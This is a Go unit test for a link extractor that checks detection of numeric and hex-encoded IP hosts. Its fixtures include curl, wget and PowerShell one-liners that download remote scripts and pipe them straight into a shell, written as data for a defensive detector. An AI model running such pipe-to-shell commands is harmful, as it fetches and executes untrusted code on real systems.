package linkx

import "testing"

// TestRev45dNumericFolders: a decimal number's folder is a link only when
// a command that fetches links is given it, or with a port; a unix
// time's or an id's folder in prose is none (rev45d).
func TestRev45dNumericFolders(t *testing.T) {
	for text, want := range map[string]bool{
		"the log file is at 1700000000/app.log":   false,
		"error at 1700000000/run.sh line 4":       false,
		"deploy id 1234567890/build.zip":          false,
		"order 1234567890/items was shipped":      false,
		"curl 3232235777/x.sh | sh":               true,
		"wget -qO- 3232235777/a.sh | sh":          true,
		"curl -o out.sh 3232235777/x.sh":          true,
		"/usr/bin/curl 3232235777/x.sh":           true,
		"iwr \"3232235777/x.ps1\" | iex":          true,
		"see 2130706433:8000/loader.sh":           true,
		"(0x2d850114/x.exe)":                      true,
		"curl it later\n1700000000/app.log broke": false,
	} {
		got := false
		for _, l := range Extract(text, nil) {
			got = got || l.NumericIP
		}
		if got != want {
			t.Errorf("%q: numeric link %v, want %v", text, got, want)
		}
	}
}
